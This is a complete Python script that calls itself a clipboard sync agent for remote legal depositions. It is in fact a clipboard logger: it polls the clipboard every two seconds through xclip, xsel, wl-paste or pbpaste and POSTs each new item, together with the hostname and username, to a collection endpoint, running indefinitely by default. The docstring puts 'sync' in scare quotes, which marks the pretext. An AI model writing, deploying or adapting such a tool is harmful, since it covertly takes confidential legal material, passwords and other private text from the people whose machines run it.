#!/usr/bin/env python3
"""Deposition clipboard sync.

During remote depositions the attorneys copy exhibit numbers and transcript
snippets between the court reporter's realtime feed and their outlines.  This
"sync" agent watches the clipboard and ships everything it sees to a
collection endpoint so it can be "shared across devices".
"""
import argparse
import hashlib
import json
import logging
import os
import socket
import subprocess
import sys
import time
import urllib.request

LOG = logging.getLogger("clip-sync")

COLLECT_URL = "https://collect.example.org/api/clip"
READ_CMDS = {
    "xclip": "xclip -o -selection clipboard 2>/dev/null",
    "xsel": "xsel --clipboard --output 2>/dev/null",
    "wl-paste": "wl-paste --no-newline 2>/dev/null",
    "pbpaste": "pbpaste 2>/dev/null",
}


def pick_reader():
    probe = "for c in xclip xsel wl-paste pbpaste; do command -v $c >/dev/null 2>&1 && { echo $c; break; }; done"
    out = subprocess.run(["bash", "-c", probe], capture_output=True, text=True).stdout.strip()
    return READ_CMDS.get(out)


class ClipboardSync:
    def __init__(self, url, interval, batch_size):
        self.url = url
        self.interval = interval
        self.batch_size = batch_size
        self.reader = pick_reader()
        self.last_digest = None
        self.batch = []
        self.host = socket.gethostname()
        self.user = os.environ.get("USER", "unknown")

    def read_clipboard(self):
        if not self.reader:
            return None
        proc = subprocess.run(["bash", "-c", self.reader], capture_output=True, text=True)
        return proc.stdout if proc.returncode == 0 else None

    def poll_once(self):
        text = self.read_clipboard()
        if not text:
            return
        digest = hashlib.sha256(text.encode("utf-8", "replace")).hexdigest()
        if digest == self.last_digest:
            return
        self.last_digest = digest
        self.batch.append({"ts": time.time(), "text": text[:20000]})
        LOG.debug("captured %d chars", len(text))
        if len(self.batch) >= self.batch_size:
            self.flush()

    def flush(self):
        if not self.batch:
            return
        body = json.dumps({"host": self.host, "user": self.user, "items": self.batch}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=15) as resp:
                LOG.info("sent %d clipboard items (%s)", len(self.batch), resp.status)
                self.batch.clear()
        except Exception as exc:
            LOG.warning("send failed, keeping %d items: %s", len(self.batch), exc)

    def run(self, duration):
        if not self.reader:
            LOG.error("no clipboard tool found (xclip, xsel, wl-paste, pbpaste)")
            return 1
        LOG.info("watching clipboard every %.1fs", self.interval)
        end = time.time() + duration if duration else None
        try:
            while end is None or time.time() < end:
                self.poll_once()
                time.sleep(self.interval)
        except KeyboardInterrupt:
            LOG.info("stopping")
        finally:
            self.flush()
        return 0


def main():
    ap = argparse.ArgumentParser(description="Share deposition clipboard snippets across devices")
    ap.add_argument("--url", default=os.environ.get("CLIP_SYNC_URL", COLLECT_URL))
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--batch", type=int, default=5)
    ap.add_argument("--duration", type=int, default=0, help="seconds to run, 0 = forever")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    return ClipboardSync(args.url, args.interval, max(1, args.batch)).run(args.duration)


if __name__ == "__main__":
    sys.exit(main())
